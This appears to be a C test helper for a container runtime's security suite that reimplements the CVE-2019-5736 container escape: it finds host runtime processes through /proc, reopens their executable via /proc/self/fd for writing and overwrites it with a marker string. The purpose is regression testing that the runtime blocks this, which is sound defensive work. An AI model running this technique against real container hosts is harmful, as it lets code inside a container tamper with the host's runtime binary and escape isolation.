// SPDX-License-Identifier: Apache-2.0
/*
 * exe: the CVE-2019-5736 attacker, run inside a container by cve.bats. It scans /proc for
 * processes whose executable is the file DEV:INO (the runtime binary, as the test sees it on
 * the host), keeps an O_PATH fd of each one it can open, and tries to reopen it for writing
 * (through /proc/self/fd/N, as the original exploit did) until SECONDS have passed. On success
 * it overwrites the first bytes of the file. Prints found=, denied=, exe_write= lines.
 * Built static by cve-helpers.bash; not part of the skiff build.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static const char *errname(int e)
{
	const char *n = strerrorname_np(e);

	return n ? n : "EUNKNOWN";
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

struct scan {
	dev_t dev;
	ino_t ino;
	int held[MAX_HELD];
	int n_held;
	int denied_pids[MAX_HELD];
	int n_denied;
};

static int seen_pid(const int *pids, int n, int pid)
{
	for (int i = 0; i < n; i++)
		if (pids[i] == pid)
			return 1;
	return 0;
}

/* One pass over /proc: hold an O_PATH fd of every matching executable not held yet. */
static void scan_once(struct scan *s, int *held_pids)
{
	DIR *d = opendir("/proc");
	struct dirent *de;

	if (!d)
		return;
	while ((de = readdir(d))) {
		int pid = atoi(de->d_name);
		char path[64];
		struct stat st;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			if ((errno == EACCES || errno == EPERM) && s->n_denied < MAX_HELD &&
			    !seen_pid(s->denied_pids, s->n_denied, pid))
				s->denied_pids[s->n_denied++] = pid;
			continue;
		}
		if (fstat(fd, &st) < 0 || st.st_dev != s->dev || st.st_ino != s->ino ||
		    s->n_held >= MAX_HELD || seen_pid(held_pids, s->n_held, pid)) {
			close(fd);
			continue;
		}
		held_pids[s->n_held] = pid;
		s->held[s->n_held++] = fd;
		printf("found.%d=%s\n", pid, path);
		fflush(stdout);
	}
	closedir(d);
}

/* Tries to reopen each held fd for writing; returns 1 after overwriting one. */
static int try_write(struct scan *s, int *last_errno)
{
	for (int i = 0; i < s->n_held; i++) {
		char path[64];

		snprintf(path, sizeof(path), "/proc/self/fd/%d", s->held[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0) {
			*last_errno = errno;
			continue;
		}
		if (pwrite(fd, "PWNED-BY-CVE-2019-5736", 22, 0) != 22)
			*last_errno = errno;
		close(fd);
		return 1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct scan s = {0};
	int held_pids[MAX_HELD];
	unsigned long long dev, ino;
	int last_errno = 0, written = 0;

	if (argc < 3 || sscanf(argv[1], "%llu:%llu", &dev, &ino) != 2) {
		fprintf(stderr, "usage: exe DEV:INO SECONDS\n");
		return 2;
	}
	s.dev = (dev_t)dev;
	s.ino = (ino_t)ino;
	double end = now() + atof(argv[2]);
	printf("ready\n");
	fflush(stdout);
	while (now() < end && !written) {
		scan_once(&s, held_pids);
		written = try_write(&s, &last_errno);
	}
	printf("found=%d\ndenied=%d\n", s.n_held, s.n_denied);
	if (written)
		printf("exe_write=ok\n");
	else
		printf("exe_write=%s\n", s.n_held ? errname(last_errno) : "none");
	return 0;
}
